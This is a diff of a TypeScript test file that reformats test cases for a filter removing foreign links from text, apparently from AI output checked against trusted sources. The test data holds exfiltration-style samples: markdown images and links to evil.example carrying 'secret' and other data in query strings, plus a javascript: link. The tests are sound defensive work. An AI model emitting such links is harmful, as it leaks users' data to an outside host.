@@ -4,8 +4,16 @@ import { ForeignLinkGate, removeForeignLinks } from './foreign-links.js';
 const sources = ['See the VPN guide at https://intranet.example/vpn and the [portal](https://portal.example/start).'];
 
 const attacks: Array<[string, string, string[]]> = [
-  ['an image that loads a foreign URL', 'Done ![x](https://evil.example/log?q=secret) [1]', ['https://evil.example/log?q=secret']],
-  ['a link with data in its query', 'Read [this](http://evil.example/?d=25%20days) now.', ['http://evil.example/?d=25%20days']],
+  [
+    'an image that loads a foreign URL',
+    'Done ![x](https://evil.example/log?q=secret) [1]',
+    ['https://evil.example/log?q=secret'],
+  ],
+  [
+    'a link with data in its query',
+    'Read [this](http://evil.example/?d=25%20days) now.',
+    ['http://evil.example/?d=25%20days'],
+  ],
   ['a bare URL', 'Send it to https://evil.example/collect?x=1.', ['https://evil.example/collect?x=1.']],
   ['an autolink', 'Go to <https://evil.example/a>', ['https://evil.example/a']],
   ['a javascript: link', '[click](javascript:alert(1))', ['javascript:alert(1']],
@@ -25,7 +33,9 @@ describe('removeForeignLinks', () => {
   });
 
   it('keeps a link’s text and drops a foreign image whole', () => {
-    expect(removeForeignLinks('A [guide](https://evil.example/g) and ![logo](https://evil.example/i.png).', sources).text).toBe('A guide and .');
+    expect(
+      removeForeignLinks('A [guide](https://evil.example/g) and ![logo](https://evil.example/i.png).', sources).text,
+    ).toBe('A guide and .');
   });
 });
 
